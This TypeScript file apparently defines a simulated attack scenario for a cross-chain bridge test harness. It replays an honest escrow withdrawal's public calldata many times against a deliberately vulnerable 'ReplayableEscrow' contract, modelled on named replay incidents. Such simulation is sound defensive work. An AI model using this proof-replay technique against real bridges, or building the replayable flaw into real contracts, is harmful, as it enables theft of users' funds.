import * as Escrow from '@cutwater/contracts/generated/Escrow.ts'
import * as ReplayableEscrow from '@cutwater/contracts/generated/ReplayableEscrow.ts'
import * as TestToken from '@cutwater/contracts/generated/TestToken.ts'
import { type Hex, maxUint256, parseEventLogs } from 'viem'
import { chainIds, coinOf, other, type Place, unitsOfDollars } from '../bridge/Coins.ts'
import * as Chain from '../chain/Chain.ts'
import type { Scenario, Stage } from './Scenario.ts'
import { begins, between, dollarsBetween } from './steal.ts'

export const replay: Scenario = {
  name: 'replay',
  incident: 'Verus 2024, Hyperbridge 2026 (proofs used again)',
  says: 'The escrow forgets what it has paid: one honest withdrawal is released again and again with its own good proof.',
  steps: 'many',
  visibleBefore: true,
  // The attestations are as good the second time: they say that the out leg exists, and it does.
  deceived: true,
  limitedBy: 'the total limit until the pause: each copy is proven, the watch alone sees that it came before',
  parts: {
    escrow: ({ chains, accounts }, place) =>
      Chain.deploy(chains[place], accounts.deployer.address, {
        ...ReplayableEscrow,
        args: [accounts.admin.address],
      }),
  },
  attack: async (stage) => {
    const dollars = dollarsBetween(stage.rng, 5_000, 50_000)
    const copies = between(stage.rng, 1, 6)
    await moveOwn(stage, 'north', dollars)
    for (let block = 0; block < 5; block++) await stage.nextBlock()
    await moveOwn(stage, 'south', dollars)
    const data = await theRelease(stage)
    begins(stage)
    for (let block = 0; block < 12; block++) {
      for (let nth = 0; nth < copies; nth++) await copy(stage, data)
      await stage.nextBlock()
    }
  },
}

// The attacker's own money, over and back.
async function moveOwn({ world, twin }: Stage, from: Place, dollars: number): Promise<void> {
  const chain = world.chains[from]
  const { address } = world.accounts.attacker
  const { escrow, tokens } = twin.ends[from]
  const amount = unitsOfDollars(coinOf('USD'), dollars)
  if (from === 'north') {
    const mint = { abi: TestToken.abi, functionName: 'mint', args: [address, amount] } as const
    await Chain.send(chain, address, Chain.call(tokens.USD, mint))
    const approve = { abi: TestToken.abi, functionName: 'approve', args: [escrow, maxUint256] } as const
    await Chain.send(chain, address, Chain.call(tokens.USD, approve))
  }
  const args = [tokens.USD, BigInt(chainIds[other(from)]), address, amount] as const
  await Chain.send(chain, address, Chain.call(escrow, { abi: Escrow.abi, functionName: 'send', args }))
}

// The calldata of the honest release is public: message, proof, attestations and all.
async function theRelease(stage: Stage): Promise<Hex> {
  const { world, twin } = stage
  const { client } = world.chains.north
  for (;;) {
    await stage.nextBlock()
    const logs = await client.getLogs({ address: twin.ends.north.escrow, fromBlock: 0n, toBlock: 'latest' })
    const paid = parseEventLogs({ abi: Escrow.abi, logs, eventName: 'Released' })
    const own = paid.find(({ args }) => args.beneficiary.toLowerCase() === world.accounts.attacker.address)
    if (own !== undefined) return (await client.getTransaction({ hash: own.transactionHash })).input
  }
}

async function copy({ world, twin, fee }: Stage, data: Hex): Promise<void> {
  const call = { to: twin.ends.north.escrow, data }
  await Chain.send(world.chains.north, world.accounts.attacker.address, call, fee)
}
